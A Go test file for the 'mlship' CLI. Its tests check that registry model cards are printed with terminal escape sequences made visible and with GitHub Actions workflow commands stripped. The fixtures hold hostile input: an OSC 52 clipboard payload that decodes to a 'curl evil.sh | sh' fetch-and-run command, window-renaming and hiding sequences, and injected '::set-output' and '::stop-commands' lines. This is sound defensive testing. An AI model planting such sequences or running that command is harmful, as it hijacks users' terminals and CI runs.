package cli

import (
	"bytes"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mlship/mlship/internal/testenv"
)

// hostileCard is a MODEL_CARD.md as anyone who can push to the registry
// can write it: terminal escape sequences that set the clipboard (OSC 52),
// rename the window, clear the screen, hide text, and a carriage return
// and backspaces that overwrite what was printed before them.
const hostileCard = "---\nlicense: mit\n---\n# Our card\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;pwned\x1b\\\x1b[2J\x1b[8mhidden\x1b[0m\rSAFE\b\b\b\b\u009b31m \x7f\n"

// TestRedteamCardTerminalEscapes: `mlship card` prints a registry's
// bytes; on a terminal they must be text, never control sequences.
func TestRedteamCardTerminalEscapes(t *testing.T) {
	t.Parallel()
	host := testenv.InProcessRegistry(t)
	env := map[string]string{"MLSHIP_CACHE_DIR": t.TempDir()}
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{
		"model/w.txt":   "weights\n",
		"model.cue":     strings.Replace(cardSpec, "%s", `, {path: "MODEL_CARD.md", role: "doc"}`, 1),
		"MODEL_CARD.md": hostileCard,
	})
	ref := host + "/acme/hostilecard:0.1.0"
	if code, _, stderr := mlship(t, env, "push", dir, ref); code != 0 {
		t.Fatalf("push: %s", stderr)
	}
	code, stdout, stderr := mlship(t, env, "card", ref)
	if code != 0 || !strings.Contains(stdout, "# Our card") {
		t.Fatalf("card: exit %d\nstdout:\n%q\nstderr:\n%s", code, stdout, stderr)
	}
	if i := strings.IndexFunc(stdout, isTerminalControl); i >= 0 {
		t.Errorf("card printed control character %q at %d: %q", stdout[i:i+1], i, stdout)
	}
	// --output json carries the file as it is (JSON escapes it).
	code, stdout, _ = mlship(t, env, "card", ref, "--output", "json")
	if code != 0 || !strings.Contains(stdout, `\u001b]52;`) {
		t.Errorf("card --output json: exit %d, want the bytes JSON-escaped:\n%s", code, stdout)
	}
}

// TestRedteamTextWriter: the text writer keeps newlines, tabs and UTF-8
// (a C1 control split across two writes included) and makes every other
// control character visible.
func TestRedteamTextWriter(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	w := textWriter(&b)
	for _, s := range []string{"a\tb\n", "é ✅ \x1b[31mred", "\xc2", "\x9b1m \x07\r\x7f", "\xc2", "\xa9 end\n"} {
		if n, err := w.Write([]byte(s)); err != nil || n != len(s) {
			t.Fatalf("Write(%q) = %d, %v", s, n, err)
		}
	}
	got := b.String()
	if want := "a\tb\né ✅ \\x1b[31mred\\u009b1m \\x07\\x0d\\x7f© end\n"; got != want {
		t.Errorf("got %q\nwant %q", got, want)
	}
}

func isTerminalControl(r rune) bool {
	return r != '\n' && r != '\t' && (r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0))
}

// TestRedteamCardWorkflowCommands: in GitHub Actions every line of a
// step's output that starts with "::" is a workflow command the runner
// obeys (::stop-commands:: turns off masking and annotations for the rest
// of the step, ::set-output:: sets a step output). A card from the
// registry printed in a workflow must not issue one.
func TestRedteamCardWorkflowCommands(t *testing.T) {
	t.Parallel()
	host := testenv.InProcessRegistry(t)
	dir := t.TempDir()
	evil := "---\nlicense: mit\n---\n# Our card\n::set-output name=digest::sha256:evil\n  \t::stop-commands::tok\n:::note\nok :: not at the start\n"
	writeFiles(t, dir, map[string]string{
		"model/w.txt":   "weights\n",
		"model.cue":     strings.Replace(cardSpec, "%s", `, {path: "MODEL_CARD.md", role: "doc"}`, 1),
		"MODEL_CARD.md": evil,
	})
	ref := host + "/acme/workflowcard:0.1.0"
	if code, _, stderr := mlship(t, map[string]string{"MLSHIP_CACHE_DIR": t.TempDir()}, "push", dir, ref); code != 0 {
		t.Fatalf("push: %s", stderr)
	}
	tmp := t.TempDir()
	env := map[string]string{"MLSHIP_CACHE_DIR": t.TempDir(), "GITHUB_ACTIONS": "true",
		"GITHUB_OUTPUT": filepath.Join(tmp, "out"), "GITHUB_STEP_SUMMARY": filepath.Join(tmp, "summary")}
	code, stdout, stderr := mlship(t, env, "card", ref)
	if code != 0 {
		t.Fatalf("card: exit %d\n%s", code, stderr)
	}
	for _, l := range strings.Split(stdout, "\n") {
		if strings.HasPrefix(strings.TrimSpace(l), "::") {
			t.Errorf("card printed a workflow command in Actions: %q", l)
		}
	}
	if !strings.Contains(stdout, "ok :: not at the start") {
		t.Errorf("text was changed where it is no command:\n%s", stdout)
	}
	// Outside Actions the card is printed as it is.
	_, stdout, _ = mlship(t, map[string]string{"MLSHIP_CACHE_DIR": t.TempDir()}, "card", ref)
	if !strings.Contains(stdout, "\n::set-output name=digest::sha256:evil\n") {
		t.Errorf("outside Actions the card was changed:\n%s", stdout)
	}
}
